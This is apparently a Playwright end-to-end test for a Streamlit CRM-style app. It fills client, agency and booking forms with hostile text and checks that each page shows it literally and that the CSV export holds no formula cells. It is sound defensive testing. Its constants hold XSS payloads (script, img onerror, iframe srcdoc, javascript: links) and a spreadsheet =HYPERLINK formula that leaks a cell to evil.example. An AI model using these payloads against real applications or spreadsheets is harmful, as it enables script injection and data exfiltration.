"""Partner and agent text stays text on the form pages, in real Chromium against the sandbox in
`--hostile` mode (names, addresses, client and agency names, user names carrying `<script>`,
`<img onerror>`, `<iframe srcdoc>`, markdown links and images, Streamlit directives, formula cells):
no injected element in the DOM (`kontur.sandbox.hostile.INJECTION_PROBE_JS`), no dialog fired, the
payloads shown literally, and the history's CSV with no cell a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from kontur.forms import agencies, clients, visits
from kontur.sandbox.hostile import INJECTION_PROBE_JS, is_hostile
from kontur.sandbox.server import RunningSandbox
from tests.e2e.conftest_auth import REPO, RunningApp, form_context, free_port, run_streamlit, synced_cache
from tests.support import streamlit_page
from tests.support.form_records import book_through_forms
from tests.support.sandbox_records import active_agent, is_free_premise, is_free_slot
from tests.support.sandboxes import SandboxFactory

pytestmark = pytest.mark.browser

WAIT_MS = 60_000
SEED = 626262
# What an agent might type (or paste) into the forms.
CLIENT_NAME = (
    "Злова <img src=x onerror=alert(1)> [жми](javascript:alert(1)) :red[Ж] "
    '<iframe srcdoc="<script>alert(1)</script>">'
)

CLIENT_COMMENT = '=HYPERLINK("https://evil.example/?leak="&A1,"Открыть") ![x](https://evil.example/x.png)'
AGENCY_TITLE = "<script>alert(1)</script> Агентство **жирное** $x$"


@pytest.fixture(scope="module")
def box(module_sandboxes: SandboxFactory) -> RunningSandbox:
    return module_sandboxes(scale=0.02, seed=SEED, hostile=True)


@pytest.fixture(scope="module")
def world(box: RunningSandbox, tmp_path_factory: pytest.TempPathFactory) -> dict:
    """A synced cache of the hostile world, and records made through the forms with hostile text
    typed by an agent: a client, a booking (of a premise in a hostile-named project), a visit, an
    agency."""
    path = synced_cache(box, tmp_path_factory.mktemp("hostile") / "kontur.duckdb")
    with box.admin() as admin:
        premises = admin.records("premises")
        slots = admin.records("time-slots")
    agent = active_agent(box)
    with form_context(box, path, agent) as ctx:
        made = clients.create(
            ctx,
            clients.ClientInput(
                fullname=CLIENT_NAME, phone_number="+7 812 600-00-01", comment=CLIENT_COMMENT
            ),
        )
        assert made.ok, made.message
        assert made.result is not None
        premise = next(p for p in premises if is_free_premise(p, with_option=True))
        booked = book_through_forms(ctx, premise, made.result.id, days_ahead=2, time="10:00")
        slot = next(s for s in slots if is_free_slot(s, future=True))
        shown = visits.create(
            ctx,
            visits.VisitInput(
                project_id=slot["project_id"], client_id=made.result.id, time_slot_id=slot["id"]
            ),
        )
        assert shown.ok, shown.message
        registered = agencies.create(
            ctx,
            agencies.AgencyInput(
                title=AGENCY_TITLE,
                city_id=1,
                legal_name="ООО «<b>Ромашка</b>»",
                inn="7707083893",
                phone="+7 812 600-00-02",
                email="hostile@agency.test",
                owner_full_name="@SUM(A1) Владелец",
                owner_phone="+7 812 600-00-03",
            ),
        )
    assert registered.ok or registered.code == "agency_exists", registered.message
    return {"cache": path, "booking": booked.id, "agent": agent["id"]}


@pytest.fixture(scope="module")
def app(box: RunningSandbox, world: dict, tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningApp]:
    with run_streamlit(
        REPO / "app.py",
        port=free_port(),
        secrets_toml="",
        workdir=tmp_path_factory.mktemp("hostile-app"),
        env={
            "BRUSNIKA_API_URL": box.api_url,
            "BRUSNIKA_API_TOKEN": box.token,
            "KONTUR_CACHE_PATH": str(world["cache"]),
            "KONTUR_AUTO_SYNC": "0",
            "KONTUR_INSECURE_DEV_PICKER": "1",  # acting as the first administrator: every page
        },
    ) as running:
        yield running


def settle(page: Page) -> None:
    streamlit_page.settle(page, WAIT_MS)


def inert(page: Page) -> None:
    assert page.evaluate(INJECTION_PROBE_JS) == []


def test_form_pages_render_hostile_text_as_text(page: Page, app: RunningApp, world: dict) -> None:
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.set_viewport_size({"width": 1440, "height": 2400})
    page.goto(app.url)
    nav = page.get_by_test_id("stSidebarNavLink")
    expect(nav.filter(has_text="Бронирования")).to_have_count(1, timeout=WAIT_MS)
    settle(page)
    sidebar = page.get_by_test_id("stSidebar")

    # Bookings: the list quotes a hostile project, address and the typed client name, literally.
    streamlit_page.go(page, "Бронирования", "Брони, сделанные здесь", timeout_ms=WAIT_MS)
    row = page.get_by_test_id("stMarkdown").filter(has_text=f"№{world['booking']} ")
    expect(row.first).to_contain_text("<img src=x onerror=alert(1)>")
    expect(row.first).to_contain_text("[жми](javascript:alert(1))")
    expect(row.first).to_contain_text(":red[Ж]")
    inert(page)
    # The agent picker's options (hostile user names) are text; once the agent who typed the hostile
    # client is chosen, the client picker offers that client, as text too.
    agent_box = page.get_by_test_id("stMain").get_by_role("combobox", name="Для агента")
    agent_box.click()
    expect(page.get_by_role("option").first).to_be_visible()
    inert(page)
    page.keyboard.press("Escape")
    streamlit_page.find_person(page, "Найти агента", "Для агента", f"№{world['agent']})", timeout_ms=WAIT_MS)
    page.get_by_test_id("stMain").get_by_test_id("stSelectbox").filter(has_text="Клиент").first.click()
    expect(page.get_by_role("option").filter(has_text="onerror").first).to_be_visible()
    inert(page)
    page.keyboard.press("Escape")
    sidebar.get_by_test_id("stSelectbox").filter(has_text="Действую от имени").click()
    expect(page.get_by_role("option").first).to_be_visible()
    inert(page)
    page.keyboard.press("Escape")

    # Visits, clients (a search: Brusnika's hostile clients and ours), agencies (a search by title).
    streamlit_page.go(page, "Показы", "Показы, назначенные здесь", timeout_ms=WAIT_MS)
    expect(page.get_by_text("<img src=x onerror=alert(1)>", exact=False).first).to_be_visible()
    inert(page)

    streamlit_page.go(page, "Клиенты", "Клиенты", timeout_ms=WAIT_MS)
    page.get_by_label("Телефон или ФИО").fill("+7 812 600-00-01")
    page.get_by_role("button", name="Найти").click()
    card = page.get_by_text("Злова", exact=False).first
    expect(card).to_be_visible(timeout=WAIT_MS)
    settle(page)
    expect(page.get_by_text("=HYPERLINK(", exact=False).first).to_be_visible()
    inert(page)

    streamlit_page.go(page, "Агентства", "Агентства", timeout_ms=WAIT_MS)
    page.get_by_label("ИНН или название").fill("7707083893")
    page.get_by_role("button", name="Найти").click()
    expect(page.get_by_text("Найдено", exact=False).first).to_be_visible(timeout=WAIT_MS)
    settle(page)
    inert(page)

    # Users (hostile names in Brusnika's directory) and history (the typed names in the requests).
    for title in ("Пользователи", "История действий"):
        streamlit_page.go(page, title, title, timeout_ms=WAIT_MS)
        inert(page)
    download = streamlit_page.download(
        page, page.get_by_role("button", name="Скачать CSV"), timeout_ms=30_000
    )
    text = Path(download.path()).read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any(is_hostile(cell) for cell in cells)  # the hostile text is there...
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]  # ...and none is a formula
    assert dialogs == []
